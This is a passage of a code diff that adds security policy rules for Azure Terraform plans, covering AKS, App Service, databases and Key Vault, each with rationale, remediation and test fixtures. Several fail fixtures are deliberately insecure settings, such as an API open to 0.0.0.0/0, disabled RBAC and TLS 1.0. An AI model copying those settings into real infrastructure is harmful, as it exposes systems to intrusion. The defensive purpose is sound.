+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "private_cluster_enabled": false,
+                         "api_server_access_profile": [{"authorized_ip_ranges": ["198.51.100.0/24"]}]}}}]}
+        """
+        example pass "private cluster" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true, "api_server_authorized_ip_ranges": true},
+               "after": {"name": "acme-aks", "private_cluster_enabled": true, "api_server_access_profile": []}}}]}
+        """
+        example fail "public API, nothing restricted" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after_unknown": {"id": true, "kube_config": true, "api_server_access_profile": true, "api_server_authorized_ip_ranges": true},
+               "after": {"name": "acme-aks", "private_cluster_enabled": ↓false, "public_network_access_enabled": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "expressions": {"name": {"constant_value": "acme-aks"}}}]}}}
+        """ expect "'azurerm_kubernetes_cluster.main' exposes its Kubernetes API server to the whole internet"
+        example fail "whole internet authorized" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "private_cluster_enabled": false,
+                         "api_server_access_profile": [{"authorized_ip_ranges": ["198.51.100.0/24", ↓"0.0.0.0/0"]}]}}}]}
+        """ expect "authorizes the whole internet to reach its Kubernetes API server (authorized IP range 0.0.0.0/0)"
+        example indeterminate "ranges known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-aks", "private_cluster_enabled": false, "api_server_access_profile": [{}]},
+               "after_unknown": {"id": true, "kube_config": true, "api_server_access_profile": [{"authorized_ip_ranges": true}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_aks_local_accounts_enabled.plumb",
+      text: #"""
+      rule azure_aks_local_accounts_enabled {
+        title "AKS clusters disable local accounts"
+        severity medium
+        category security
+        tags [terraform, azure, aks, kubernetes, iam]
+        rationale """
+          With local accounts enabled, `az aks get-credentials --admin` hands out a static cluster-admin
+          certificate to anyone with the "cluster admin credential" action. That credential bypasses
+          Entra ID, conditional access and MFA, is not tied to a person, and stays valid until the
+          cluster certificates are rotated, so a copy taken by a departing employee or a compromised
+          laptop keeps working.
+        """
+        remediation """
+          Configure `azure_active_directory_role_based_access_control { … }` and set
+          `local_account_disabled = true` on the `azurerm_kubernetes_cluster`; use Entra ID groups (with
+          a break-glass group) for administrators.
+        """
+
+        for c in terraform.resource("azurerm_kubernetes_cluster")
+        when not is_null(c.after)
+        require default(c.after.local_account_disabled, false) == true
+          else "'${c.address}' keeps its local cluster-admin account: local_account_disabled is not true"
+          at c.after.local_account_disabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "local_account_disabled": true,
+                         "azure_active_directory_role_based_access_control": [{"azure_rbac_enabled": true}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "local_account_disabled": ↓false}}}]}
+        """ expect "'azurerm_kubernetes_cluster.main' keeps its local cluster-admin account"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-aks"}, "after_unknown": {"id": true, "kube_config": true, "local_account_disabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_aks_rbac_disabled.plumb",
+      text: #"""
+      rule azure_aks_rbac_disabled {
+        title "AKS clusters have Kubernetes RBAC enabled"
+        severity high
+        category security
+        tags [terraform, azure, aks, kubernetes, iam]
+        rationale """
+          Without Kubernetes RBAC every authenticated identity (each user, each service account token
+          mounted in a pod) is effectively cluster-admin: a single compromised workload can read every
+          secret and take over every node. RBAC cannot be turned on for an existing cluster without
+          recreating it, so it has to be right at creation.
+        """
+        remediation """
+          Remove `role_based_access_control_enabled = false` from the `azurerm_kubernetes_cluster` (it
+          defaults to true; azurerm 2.x: `role_based_access_control { enabled = true }`), ideally with
+          `azure_active_directory_role_based_access_control` so access follows Entra ID groups.
+        """
+
+        for c in terraform.resource("azurerm_kubernetes_cluster")
+        when not is_null(c.after)
+        require c.after.role_based_access_control_enabled != false
+          else "'${c.address}' has Kubernetes RBAC disabled (role_based_access_control_enabled = false)"
+          at c.after.role_based_access_control_enabled
+        # azurerm 2.x: a computed block, enabled by the service when it is not written.
+        let legacy = c.after.role_based_access_control
+        let legacy_unset = is_unknown(legacy) and exists(c.config) and not exists(c.config.role_based_access_control)
+        require legacy_unset or first(legacy).enabled != false
+          else "'${c.address}' has Kubernetes RBAC disabled (role_based_access_control.enabled = false)"
+          at first(legacy).enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "role_based_access_control_enabled": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "role_based_access_control_enabled": ↓false}}}]}
+        """ expect "'azurerm_kubernetes_cluster.main' has Kubernetes RBAC disabled (role_based_access_control_enabled = false)"
+        example fail "azurerm 2.x block" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "kube_config": true},
+               "after": {"name": "acme-aks", "role_based_access_control": [{"enabled": ↓false, "azure_active_directory": []}]}}}]}
+        """ expect "(role_based_access_control.enabled = false)"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_kubernetes_cluster.main", "mode": "managed", "type": "azurerm_kubernetes_cluster", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-aks"}, "after_unknown": {"id": true, "kube_config": true, "role_based_access_control_enabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_app_service_https_only_disabled.plumb",
+      text: #"""
+      rule azure_app_service_https_only_disabled {
+        title "App Service and Function apps redirect HTTP to HTTPS"
+        severity medium
+        category security
+        tags [terraform, azure, app-service, "encryption-in-transit"]
+        rationale """
+          `https_only` defaults to false: the app then also serves plain HTTP, so session cookies,
+          bearer tokens and form posts of any link or client that uses `http://` cross the network in
+          clear text and can be read or rewritten (SSL stripping) by anyone on the path. With
+          `https_only = true` App Service redirects every HTTP request to HTTPS before the app sees it.
+        """
+        remediation "Set `https_only = true` on the web or function app (and on each deployment slot)."
+
+        for a in terraform.resource("azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot",
+          "azurerm_linux_function_app", "azurerm_windows_function_app", "azurerm_linux_function_app_slot", "azurerm_windows_function_app_slot",
+          "azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_function_app_slot")
+        when not is_null(a.after)
+        require a.after.https_only != false
+          else "'${a.address}' serves plain HTTP (https_only = false)"
+          at a.after.https_only
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
+               "after": {"name": "acme-api", "https_only": true, "site_config": [{"minimum_tls_version": "1.2"}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_windows_function_app.jobs", "mode": "managed", "type": "azurerm_windows_function_app", "name": "jobs",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
+               "after": {"name": "acme-jobs", "https_only": ↓false, "site_config": [{"minimum_tls_version": "1.2"}]}}}]}
+        """ expect "'azurerm_windows_function_app.jobs' serves plain HTTP (https_only = false)"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-legacy"}, "after_unknown": {"id": true, "default_site_hostname": true, "https_only": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_app_service_min_tls_below_1_2.plumb",
+      text: #"""
+      rule azure_app_service_min_tls_below_1_2 {
+        title "App Service and Function apps require TLS 1.2 or later"
+        severity medium
+        category security
+        tags [terraform, azure, app-service, tls]
+        rationale """
+          A minimum TLS version of 1.0 or 1.1 on the app (or on its Kudu/SCM deployment endpoint) lets
+          clients, and attackers downgrading the handshake, protect cookies, tokens and deployment
+          credentials with protocol versions that have known weaknesses and are no longer accepted by
+          PCI DSS or Microsoft's baseline.
+        """
+        remediation """
+          Set `site_config { minimum_tls_version = "1.2" }` (and `scm_minimum_tls_version = "1.2"`) on the
+          web or function app; the legacy `azurerm_app_service`/`azurerm_function_app` call it
+          `min_tls_version`.
+        """
+        param weak_versions: list<string> = ["1.0", "1.1"]
+        param attributes: list<string> = ["minimum_tls_version", "scm_minimum_tls_version", "min_tls_version"]
+
+        for a in terraform.resource("azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot",
+          "azurerm_linux_function_app", "azurerm_windows_function_app", "azurerm_linux_function_app_slot", "azurerm_windows_function_app_slot",
+          "azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_function_app_slot")
+        when not is_null(a.after)
+        # site_config and its TLS settings are computed (defaulting to 1.2) when they are not written.
+        let sc = a.after.site_config
+        let sc_unset = is_unknown(sc) and exists(a.config) and not exists(a.config.site_config)
+        let weak = filter(k in param.attributes,
+          not (is_unknown(first(sc)[k]) and exists(a.config) and not exists(first(a.config.site_config)[k]))
+          and first(sc)[k] in param.weak_versions)
+        require sc_unset or count(weak) == 0
+          else "'${a.address}' accepts TLS ${first(sc)[first(weak)]} (site_config.${first(weak)}); 1.2 is the minimum"
+          at first(sc)[first(weak)]
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
+               "after": {"name": "acme-api", "https_only": true,
+                         "site_config": [{"minimum_tls_version": "1.2", "scm_minimum_tls_version": "1.2"}]}}}]}
+        """
+        example pass "legacy app service without site_config" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-legacy", "https_only": true}, "after_unknown": {"id": true, "site_config": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
+             "expressions": {"name": {"constant_value": "acme-legacy"}, "https_only": {"constant_value": true}}}]}}}
+        """
+        example fail "SCM endpoint on TLS 1.0" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "default_hostname": true},
+               "after": {"name": "acme-api", "https_only": true,
+                         "site_config": [{"minimum_tls_version": "1.2", "scm_minimum_tls_version": ↓"1.0"}]}}}]}
+        """ expect "'azurerm_linux_web_app.api' accepts TLS 1.0 (site_config.scm_minimum_tls_version)"
+        example fail "legacy app service" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_app_service.legacy", "mode": "managed", "type": "azurerm_app_service", "name": "legacy",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "acme-legacy", "https_only": true, "site_config": [{"min_tls_version": ↓"1.1"}]}}}]}
+        """ expect "accepts TLS 1.1 (site_config.min_tls_version)"
+        example indeterminate "version known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_linux_web_app.api", "mode": "managed", "type": "azurerm_linux_web_app", "name": "api",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-api", "https_only": true, "site_config": [{"scm_minimum_tls_version": "1.2"}]},
+               "after_unknown": {"id": true, "default_hostname": true, "site_config": [{"minimum_tls_version": true}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_db_server_min_tls_below_1_2.plumb",
+      text: #"""
+      rule azure_db_server_min_tls_below_1_2 {
+        title "PostgreSQL, MySQL and MariaDB single servers require TLS 1.2 or later"
+        severity medium
+        category security
+        tags [terraform, azure, database, tls]
+        rationale """
+          `ssl_minimal_tls_version_enforced` defaults to `TLSEnforcementDisabled`, which accepts TLS 1.0
+          and 1.1 even when SSL is enforced. Those versions have known weaknesses and let a client, or an
+          attacker downgrading the handshake, protect database passwords and data with broken
+          cryptography; PCI DSS and Microsoft's baseline require 1.2.
+        """
+        remediation "Set `ssl_minimal_tls_version_enforced = \"TLS1_2\"` (with `ssl_enforcement_enabled = true`) on the server."
+        param weak_versions: list<string> = ["TLSEnforcementDisabled", "TLS1_0", "TLS1_1"]
+
+        for d in terraform.resource("azurerm_postgresql_server", "azurerm_mysql_server", "azurerm_mariadb_server")
+        when not is_null(d.after)
+        require d.after.ssl_minimal_tls_version_enforced not in param.weak_versions
+          else "'${d.address}' accepts TLS below 1.2 (ssl_minimal_tls_version_enforced = '${d.after.ssl_minimal_tls_version_enforced}')"
+          at d.after.ssl_minimal_tls_version_enforced
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
+               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true, "ssl_minimal_tls_version_enforced": "TLS1_2"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
+               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true, "ssl_minimal_tls_version_enforced": ↓"TLSEnforcementDisabled"}}}]}
+        """ expect "'azurerm_postgresql_server.db' accepts TLS below 1.2 (ssl_minimal_tls_version_enforced = 'TLSEnforcementDisabled')"
+        example indeterminate "version known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true},
+               "after_unknown": {"id": true, "fqdn": true, "ssl_minimal_tls_version_enforced": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_db_server_public_network_access.plumb",
+      text: #"""
+      rule azure_db_server_public_network_access {
+        title "PostgreSQL, MySQL and MariaDB servers do not expose a public endpoint"
+        severity medium
+        category security
+        tags [terraform, azure, database, network]
+        rationale """
+          A database server with public network access answers on the internet, guarded only by its
+          firewall rules and passwords. A broad firewall rule, the "allow Azure services" rule (any
+          tenant's Azure resources) or a leaked password then exposes the data; database ports are
+          among the most scanned and brute-forced. Servers reached through VNet integration or private
+          endpoints are not reachable from outside at all. Single servers enable public access by
+          default, and a PostgreSQL flexible server without a delegated subnet is public.
+        """
+        remediation """
+          Set `public_network_access_enabled = false` and connect through a private endpoint (single
+          servers), or deploy the flexible server into a delegated subnet (`delegated_subnet_id` and
+          `private_dns_zone_id`).
+        """
+
+        for d in terraform.resource("azurerm_postgresql_server", "azurerm_mysql_server", "azurerm_mariadb_server", "azurerm_postgresql_flexible_server")
+        when not is_null(d.after)
+        let pna = d.after.public_network_access_enabled
+        # Flexible servers compute it when it is not written: public unless the server has a delegated subnet.
+        let unset = is_unknown(pna) and exists(d.config) and not exists(d.config.public_network_access_enabled)
+        require unset or pna != true
+          else "'${d.address}' accepts connections from public networks (public_network_access_enabled = true)"
+          at pna
+        require not unset or not is_empty(d.after.delegated_subnet_id)
+          else "'${d.address}' accepts connections from public networks: it has no delegated_subnet_id and does not set public_network_access_enabled"
+          at d.after.delegated_subnet_id
+
+        example pass "single server, private" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
+               "after": {"name": "acme-pg", "public_network_access_enabled": false, "ssl_enforcement_enabled": true}}}]}
+        """
+        example pass "flexible server in a delegated subnet" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pgflex", "delegated_subnet_id": "/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vn/subnets/db"},
+               "after_unknown": {"id": true, "fqdn": true, "public_network_access_enabled": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
+             "expressions": {"name": {"constant_value": "acme-pgflex"}, "delegated_subnet_id": {"constant_value": "/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vn/subnets/db"}}}]}}}
+        """
+        example fail "single server, public" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mysql_server.db", "mode": "managed", "type": "azurerm_mysql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
+               "after": {"name": "acme-mysql", "public_network_access_enabled": ↓true, "ssl_enforcement_enabled": true}}}]}
+        """ expect "'azurerm_mysql_server.db' accepts connections from public networks (public_network_access_enabled = true)"
+        example fail "flexible server without a delegated subnet" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pgflex", "delegated_subnet_id": ↓null},
+               "after_unknown": {"id": true, "fqdn": true, "public_network_access_enabled": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
+             "expressions": {"name": {"constant_value": "acme-pgflex"}}}]}}}
+        """ expect "it has no delegated_subnet_id and does not set public_network_access_enabled"
+        example indeterminate "delegated subnet known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pgflex"},
+               "after_unknown": {"id": true, "fqdn": true, "public_network_access_enabled": true, "delegated_subnet_id": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "azurerm_postgresql_flexible_server.db", "mode": "managed", "type": "azurerm_postgresql_flexible_server", "name": "db",
+             "expressions": {"name": {"constant_value": "acme-pgflex"}, "delegated_subnet_id": {"references": ["azurerm_subnet.db.id", "azurerm_subnet.db"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_db_server_ssl_enforcement_disabled.plumb",
+      text: #"""
+      rule azure_db_server_ssl_enforcement_disabled {
+        title "PostgreSQL, MySQL and MariaDB servers require encrypted connections"
+        severity high
+        category security
+        tags [terraform, azure, database, "encryption-in-transit"]
+        rationale """
+          With SSL enforcement off (`ssl_enforcement_enabled = false` on single servers,
+          `require_secure_transport = OFF` on flexible servers), clients may connect in clear text:
+          database passwords and every query result cross the network readable and alterable by anyone
+          on the path. Client libraries silently fall back to unencrypted connections when the server
+          allows them, so nobody notices.
+        """
+        remediation """
+          Set `ssl_enforcement_enabled = true` on `azurerm_postgresql_server`, `azurerm_mysql_server` and
+          `azurerm_mariadb_server`; for flexible servers remove the
+          `azurerm_*_flexible_server_configuration` that sets `require_secure_transport` to `OFF`.
+        """
+        param flexible_configurations: list<string> = ["azurerm_postgresql_flexible_server_configuration", "azurerm_mysql_flexible_server_configuration"]
+
+        for d in terraform.resource("azurerm_postgresql_server", "azurerm_mysql_server", "azurerm_mariadb_server",
+          "azurerm_postgresql_flexible_server_configuration", "azurerm_mysql_flexible_server_configuration")
+        when not is_null(d.after)
+        # Of the flexible servers' parameters, only require_secure_transport matters here.
+        when type(d) not in param.flexible_configurations or lower(d.after.name) == "require_secure_transport"
+        require d.after.ssl_enforcement_enabled != false
+          else "'${d.address}' accepts unencrypted connections (ssl_enforcement_enabled = false)"
+          at d.after.ssl_enforcement_enabled
+        # azurerm 1.x spelling; computed from ssl_enforcement_enabled in 2.x when not written.
+        let legacy_unset = is_unknown(d.after.ssl_enforcement) and exists(d.config) and not exists(d.config.ssl_enforcement)
+        require legacy_unset or d.after.ssl_enforcement != "Disabled"
+          else "'${d.address}' accepts unencrypted connections (ssl_enforcement = 'Disabled')"
+          at d.after.ssl_enforcement
+        require type(d) not in param.flexible_configurations or lower(d.after.value) != "off"
+          else "'${d.address}' lets its flexible server accept unencrypted connections (require_secure_transport = '${d.after.value}')"
+          at d.after.value
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
+               "after": {"name": "acme-pg", "ssl_enforcement_enabled": true, "ssl_minimal_tls_version_enforced": "TLS1_2"}}},
+            {"address": "azurerm_mysql_flexible_server_configuration.tx", "mode": "managed", "type": "azurerm_mysql_flexible_server_configuration", "name": "tx",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
+               "after": {"name": "require_secure_transport", "server_name": "acme-mysqlflex", "value": "ON"}}}]}
+        """
+        example fail "single server" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_mysql_server.db", "mode": "managed", "type": "azurerm_mysql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "fqdn": true},
+               "after": {"name": "acme-mysql", "ssl_enforcement_enabled": ↓false, "ssl_minimal_tls_version_enforced": "TLSEnforcementDisabled"}}}]}
+        """ expect "'azurerm_mysql_server.db' accepts unencrypted connections (ssl_enforcement_enabled = false)"
+        example fail "flexible server parameter" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_flexible_server_configuration.tx", "mode": "managed", "type": "azurerm_postgresql_flexible_server_configuration", "name": "tx",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "server_id": true},
+               "after": {"name": "require_secure_transport", "value": ↓"off"}}}]}
+        """ expect "lets its flexible server accept unencrypted connections (require_secure_transport = 'off')"
+        example indeterminate "setting known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_postgresql_server.db", "mode": "managed", "type": "azurerm_postgresql_server", "name": "db",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"name": "acme-pg"}, "after_unknown": {"id": true, "fqdn": true, "ssl_enforcement_enabled": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_key_vault_not_recoverable.plumb",
+      text: #"""
+      rule azure_key_vault_not_recoverable {
+        title "Key vaults have purge protection and soft delete"
+        severity medium
+        category security
+        tags [terraform, azure, key-vault, recovery]
+        rationale """
+          Without purge protection, anyone who gains a contributor role (or a pipeline credential) can
+          delete a key vault and purge it at once, and every key, secret and certificate is gone for good:
+          disks and storage accounts encrypted with its keys become unreadable, which is exactly what
+          destructive and ransomware attacks aim for. Purge protection keeps deleted vaults and objects
+          recoverable for the whole retention period, whoever asks. (Soft delete is always on since
+          2020; azurerm 2.x could still turn it off with `soft_delete_enabled = false`.)
+        """
+        remediation """
+          Set `purge_protection_enabled = true` on the `azurerm_key_vault` (it cannot be turned off
+          again) and remove `soft_delete_enabled = false`. Keep `soft_delete_retention_days` at the
+          default 90 unless a shorter recovery window is a deliberate choice.
+        """
+
+        for kv in terraform.resource("azurerm_key_vault")
+        when not is_null(kv.after)
+        require default(kv.after.purge_protection_enabled, false) == true
+          else "'${kv.address}' can be deleted and purged at once: purge_protection_enabled is not true"
+          at kv.after.purge_protection_enabled
+        require kv.after.soft_delete_enabled != false
+          else "'${kv.address}' turns soft delete off (soft_delete_enabled = false): deleted keys and secrets cannot be recovered"
+          at kv.after.soft_delete_enabled
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_key_vault.main", "mode": "managed", "type": "azurerm_key_vault", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "vault_uri": true},
+               "after": {"name": "acme-kv", "sku_name": "standard", "purge_protection_enabled": true, "soft_delete_retention_days": 90}}}]}
+        """
+        example fail "purge protection off" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_key_vault.main", "mode": "managed", "type": "azurerm_key_vault", "name": "main",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "vault_uri": true},
+               "after": {"name": "acme-kv", "sku_name": "standard", "purge_protection_enabled": ↓false, "soft_delete_retention_days": 7}}}]}
+        """ expect "'azurerm_key_vault.main' can be deleted and purged at once"
+        example fail "azurerm 2.x without soft delete" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "azurerm_key_vault.old", "mode": "managed", "type": "azurerm_key_vault", "name": "old",
+             "provider_name": "registry.terraform.io/hashicorp/azurerm",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "vault_uri": true},
